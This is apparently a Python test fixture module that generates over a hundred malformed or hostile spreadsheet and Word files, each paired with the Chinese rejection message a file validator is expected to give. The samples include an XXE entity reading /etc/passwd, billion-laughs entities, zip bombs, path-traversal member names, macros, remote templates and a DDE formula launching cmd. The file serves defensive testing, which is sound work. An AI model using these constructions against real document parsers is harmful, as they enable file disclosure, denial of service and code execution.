"""More than a hundred hostile files: the door each knocks at, and a part of what it is told."""

import zipfile
from collections.abc import Callable

from tests.files import pdfs, pictures
from tests.files.packages import (
    MAIN,
    SHEET,
    STYLES,
    changed,
    in_sheet,
    in_text,
    letter,
    listed,
    many,
    noise,
    overlapping,
    own,
    packed,
    parts,
    related,
    replaced,
    symlink,
    twice,
    typed,
    with_member,
    workbook,
)

Made = Callable[[], bytes]

DOCUMENT_RELS = "word/_rels/document.xml.rels"
BOOK_RELS = "xl/_rels/workbook.xml.rels"
LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>'
FETCH = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
XFS = "<xf/>" * 300_000
LARGE = (2**31).to_bytes(4, "little")

COUNTED: dict[str, tuple[Made, str]] = {
    "styles by the hundred thousand": (
        lambda: replaced(workbook(), STYLES, b"</cellXfs>", XFS.encode() + b"</cellXfs>"),
        "解压后过大",
    ),
    "the same, padded with noise": (
        lambda: replaced(
            workbook(), STYLES, b"</cellXfs>", XFS.encode() + b"</cellXfs><!--" + noise(60_000) + b"-->"
        ),
        "样式太多",
    ),
    "the same as a part of another name": (
        lambda: changed(workbook(), xl__anything=many("styleSheet", "<xf/>", 60_000)),
        "样式太多",
    ),
    "number formats": (
        lambda: changed(workbook(), xl__styles2=many("styleSheet", "<numFmt/>", 60_000, 40_000)),
        "样式太多",
    ),
    "texts": (
        lambda: changed(workbook(), **{"xl__sharedStrings.xml": many("sst", "<si/>", 600_001, 60_000)}),
        "文本太多",
    ),
    "names": (
        lambda: changed(workbook(), xl__b=many("workbook", "<definedName/>", 5_001)),
        "名称太多",
    ),
    "merged cells": (lambda: in_sheet('<mergeCell ref="A1:B2"/>' * 10_001), "合并单元格太多"),
    "conditional formats": (
        lambda: in_sheet("<conditionalFormatting/>" * 5_001), "条件格式太多",
    ),
    "rules of a format": (lambda: in_sheet("<cfRule/>" * 10_001), "条件格式太多"),
    "validations": (lambda: in_sheet("<dataValidation/>" * 5_001), "数据验证太多"),
    "links to click": (lambda: in_sheet("<hyperlink/>" * 70_001), "超链接太多"),
    "comments": (
        lambda: changed(workbook(), xl__comments1=many("comments", "<comment/>", 20_001)),
        "批注太多",
    ),
    "relations": (
        lambda: changed(workbook(), xl__r=many("Relationships", "<Relationship/>", 20_001)),
        "内容太多",
    ),
    "drawings": (
        lambda: changed(workbook(), xl__drawings__d=many("wsDr", "<pic/>", 200_001, 20_000)),
        "内容太多",
    ),
    "metadata": (
        lambda: changed(workbook(), docProps__m=many("Properties", "<p/>", 200_001, 20_000)),
        "内容太多",
    ),
    "links to other books": (
        lambda: changed(workbook(), xl__x=many("workbook", "<externalReference/>", 201)),
        "内容太多",
    ),
    "types": (
        lambda: changed(workbook(), t=many("Types", "<Default/>", 20_001)), "内容太多",
    ),
    "names of elements": (
        lambda: changed(
            workbook(), n=b"<x>" + b"".join(b"<a%d/>" % n for n in range(20_001)) + b"</x>"
        ),
        "标记名过多",
    ),
    "depth": (lambda: changed(workbook(), d=b"<a>" * 5_000 + b"</a>" * 5_000), "嵌套过深"),
    "depth without end": (lambda: changed(workbook(), d=b"<a>" * 100_000), "嵌套过深"),
    "a long attribute": (
        lambda: changed(workbook(), a=b'<a b="' + noise(70_000) + b'"/>'), "属性过长",
    ),
    "many attributes": (
        lambda: changed(
            workbook(), a=b"<a " + b" ".join(b'b%d="1"' % n for n in range(201)) + b"/>"
        ),
        "属性过多",
    ),
    "a tag without end": (
        lambda: changed(workbook(), a=b'<a b="' + noise(1_400_000)), "标记过长",
    ),
}  # fmt: skip

XML: dict[str, tuple[Made, str]] = {
    "entities": (lambda: changed(workbook(), **{"xl__styles.xml": LAUGHS}), "DOCTYPE"),
    "an entity from a file": (lambda: changed(workbook(), **{"xl__styles.xml": FETCH}), "DOCTYPE"),
    "entities in the sheet": (lambda: packed(parts(workbook()) | {SHEET: LAUGHS}), "DOCTYPE"),
    "entities in UTF-16": (
        lambda: packed(parts(workbook()) | {SHEET: LAUGHS.decode().encode("utf-16")}), "DOCTYPE",
    ),
    "entities in UTF-16 without a mark": (
        lambda: packed(
            parts(workbook()) | {STYLES: ('<?xml version="1.0"?>' + LAUGHS.decode()).encode("utf-16-le")}
        ),
        "DOCTYPE",
    ),
    "a DOCTYPE in no part of ours": (
        lambda: changed(workbook(), customXml__item1=FETCH), "DOCTYPE",
    ),
    "UTF-7": (
        lambda: changed(workbook(), a=b'<?xml version="1.0" encoding="utf-7"?><a/>'), "编码 utf-7",
    ),
    "another encoding": (
        lambda: changed(workbook(), a=b'<?xml version="1.0" encoding="cp037"?><a/>'), "编码 cp037",
    ),
    "XML cut off": (
        lambda: packed(parts(workbook()) | {SHEET: parts(workbook())[SHEET][:-30]}), "不是完整的 XML",
    ),
    "bytes as XML": (lambda: packed(parts(workbook()) | {STYLES: b"\x00\x01\x02" * 50}), "不是 XML"),
    "an empty part": (lambda: packed(parts(workbook()) | {STYLES: b""}), "不是 XML"),
    "an undeclared prefix": (lambda: changed(workbook(), a=b"<x:a/>"), "不是完整的 XML"),
    "a row out of this world": (
        lambda: replaced(workbook(), SHEET, b'<row r="2"', b'<row r="99999999999"'), "无法读取",
    ),
    "a cell without a number": (
        lambda: replaced(workbook(), SHEET, b'r="A2"', b'r="A"'), "无法读取",
    ),
    "a text that is not there": (
        lambda: replaced(workbook(), SHEET, b'<c r="A2" t="inlineStr"><is><t>T-1</t></is></c>', b'<c r="A2" t="s"><v>99999999</v></c>'), "无法读取",
    ),
    "a sheet that is not there": (
        lambda: replaced(workbook(), BOOK_RELS, b"sheet1.xml", b"sheet9.xml"), "",
    ),
    "a book of nothing": (
        lambda: packed({"xl/workbook.xml": f'<workbook xmlns="{MAIN}"/>'.encode()}), "无法读取",
    ),
}  # fmt: skip

CRAFTED: dict[str, tuple[Made, str]] = {
    "a name twice": (lambda: twice(STYLES), "重名"),
    "a name in capitals": (lambda: changed(workbook(), XL__STYLES=b"x", **{"XL__STYLES.XML": b"<a/>"}), "重名"),
    "an absolute name": (lambda: changed(workbook(), __etc__passwd=b"x"), "指向文件之外"),
    "a name that climbs": (lambda: packed(parts(workbook()) | {"xl/../../x": b"x"}), "指向文件之外"),
    "a name that climbs backwards": (
        lambda: packed(parts(workbook()) | {"xl\\..\\..\\x": b"x"}), "指向文件之外",
    ),
    "a drive": (lambda: packed(parts(workbook()) | {"C:/x": b"x"}), "指向文件之外"),
    "a symbolic link": (lambda: with_member(symlink), "符号链接"),
    "members that overlap": (overlapping, "重叠"),
    "a size that lies": (lambda: own(workbook(), STYLES, 22, LARGE), "前后不一致"),
    "a packed size that lies": (lambda: own(workbook(), STYLES, 18, b"\x05\0\0\0"), "前后不一致"),
    "a list that says less": (lambda: _less(workbook()), ""),
    "a wrong sum": (lambda: listed(workbook(), STYLES, 16, b"\1\2\3\4"), "不是 Excel"),
    "a place that is none": (lambda: listed(workbook(), STYLES, 42, b"\x07\0\0\0"), ""),
    "a package in the package": (lambda: changed(workbook(), x=workbook()), "嵌有另一个文件"),
    "packages nested three deep": (
        lambda: changed(workbook(), x=packed({"a": packed({"b": packed({"c": b"x"})})})), "嵌有另一个文件",
    ),
    "a bomb": (lambda: changed(workbook(), x=bytes(30_000_000)), "解压后过大"),
    "a bomb in the sheet": (lambda: packed(parts(workbook()) | {SHEET: b" " * 30_000_000}), "解压后过大"),
    "parts by the thousand": (
        lambda: changed(workbook(), **{f"x{n}": b"" for n in range(501)}), "解压后过大",
    ),
    "sizes by the gigabyte": (lambda: listed(workbook(), STYLES, 24, LARGE), "解压后过大"),
    "a password": (lambda: listed(workbook(), STYLES, 8, b"\1\0"), "密码"),
    "a rare method": (
        lambda: packed(parts(workbook()), zipfile.ZIP_BZIP2), "压缩方式少见",
    ),
    "another rare method": (lambda: packed(parts(workbook()), zipfile.ZIP_LZMA), "压缩方式少见"),
    "half a file": (lambda: workbook()[: len(workbook()) // 2], "不是 Excel"),
    "a list without members": (lambda: workbook()[-22:], "不是 Excel"),
    "only the first four bytes": (lambda: b"PK\x03\x04", "不是 Excel"),
    "no book in it": (lambda: packed({"a.txt": b"x"}), "不是 Excel"),
    "macros in a sheet": (lambda: changed(workbook(), **{"xl__vbaProject.bin": b"x"}), "带有宏"),
    "an old book": (lambda: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600), "旧格式"),
}  # fmt: skip


def _less(content: bytes) -> bytes:
    """A list, and a header, that declare less than comes out."""
    made = listed(content, STYLES, 24, b"\x10\0\0\0")
    return own(made, STYLES, 22, b"\x10\0\0\0")


def _dde(formula: str) -> bytes:
    return replaced(workbook(), SHEET, b"</c>", f"<f>{formula}</f></c>".encode())


def _field(*runs: str) -> bytes:
    said = "".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in runs)
    return in_text(f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{said}</w:p>')


OFFICE: dict[str, tuple[Made, str]] = {
    "macros in a Word file": (lambda: changed(letter(), **{"word__vbaProject.bin": b"x"}), "带有宏"),
    "macros by another name": (lambda: changed(letter(), **{"word__vbaData.xml": b"<x/>"}), "带有宏"),
    "macros in capitals": (lambda: changed(letter(), **{"WORD__VBAPROJECT.BIN": b"x"}), "带有宏"),
    "a docm by its type": (
        lambda: typed(
            letter(),
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
        "带有宏",
    ),
    "an xlsm by its type": (
        lambda: typed(
            workbook(),
            b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        ),
        "带有宏",
    ),
    "a macro sheet": (lambda: changed(workbook(), **{"xl__macrosheets__sheet1.xml": b"<x/>"}), "带有宏"),
    "an OLE object": (lambda: changed(letter(), **{"word__embeddings__oleObject1.bin": b"x"}), "其他程序的对象"),
    "an embedded program": (lambda: changed(letter(), **{"word__embeddings__x.bin": b"MZ"}), "其他程序的对象"),
    "an embedded book": (
        lambda: changed(letter(), **{"word__embeddings__x.xlsx": workbook()}), "嵌有另一个文件",
    ),
    "ActiveX": (lambda: changed(letter(), **{"word__activeX__activeX1.xml": b"<x/>"}), "其他程序的对象"),
    "an object in the text": (lambda: in_text("<w:p><w:r><w:object/></w:r></w:p>"), "其他程序的对象"),
    "a control in the text": (lambda: in_text("<w:p><w:r><w:control/></w:r></w:p>"), "其他程序的对象"),
    "another document in the text": (lambda: in_text("<w:altChunk/>"), "其他程序的对象"),
    "a control on a sheet": (lambda: in_sheet("<oleObjects><oleObject/></oleObjects>"), "其他程序的对象"),
    "a remote template": (
        lambda: related(letter(), "word/_rels/settings.xml.rels", "attachedTemplate", "http://10.0.0.1/t.dotm"),
        "http://10.0.0.1/t.dotm",
    ),
    "a template on a share": (
        lambda: related(letter(), "word/_rels/settings.xml.rels", "attachedTemplate", r"\\10.0.0.1\t.dotm"),
        "引用了外部",
    ),
    "a remote picture": (lambda: related(letter(), DOCUMENT_RELS, "image", "http://10.0.0.1/p.png"), "引用了外部"),
    "a remote frame": (lambda: related(letter(), DOCUMENT_RELS, "frame", "http://10.0.0.1/"), "引用了外部"),
    "a remote object": (
        lambda: related(letter(), DOCUMENT_RELS, "oleObject", "mhtml:http://10.0.0.1/x!x"), "引用了外部",
    ),
    "a remote document": (lambda: related(letter(), DOCUMENT_RELS, "subDocument", "x.docx"), "引用了外部"),
    "another book's values": (
        lambda: related(workbook(), "xl/externalLinks/_rels/externalLink1.xml.rels", "externalLinkPath", "x.xlsx"),
        "引用了外部",
    ),
    "a field of DDE": (lambda: in_text('<w:p><w:fldSimple w:instr=" DDEAUTO cmd "/></w:p>'), "DDEAUTO"),
    "a field in pieces": (lambda: _field(" DD", "EAUTO c:\\\\x "), "DDEAUTO"),
    "a field that includes": (lambda: _field(" INCLUDETEXT x"), "INCLUDETEXT"),
    "a field that fetches": (lambda: _field('INCLUDEPICTURE "http://10.0.0.1/"'), "INCLUDEPICTURE"),
    "a link of DDE": (
        lambda: changed(workbook(), xl__e=f'<externalLink xmlns="{MAIN}"><ddeLink/></externalLink>'.encode()), "DDE",
    ),
    "a formula of DDE": (lambda: _dde("cmd|'/C calc'!A0"), "DDE"),
    "a formula of DDE without quotes": (lambda: _dde("MSEXCEL|x!A0"), "DDE"),
    "an old file with macros": (
        lambda: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600) + "_VBA_PROJECT".encode("utf-16-le"), "宏",
    ),
    "an old file": (lambda: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600), "旧格式"),
    "entities in a Word file": (lambda: packed(parts(letter()) | {"word/document.xml": LAUGHS}), "DOCTYPE"),
    "elements in a Word file": (lambda: in_text("<w:p/>" * 300_001 + f"<!--{noise(30_000).decode()}-->"), "内容太多"),
}  # fmt: skip

SHEETS = COUNTED | XML | CRAFTED
EVIDENCE = OFFICE | pdfs.HOSTILE | pictures.HOSTILE
TEMPLATES = {
    name: OFFICE[name]
    for name in ("macros in a Word file", "an OLE object", "ActiveX", "a field in pieces")
}
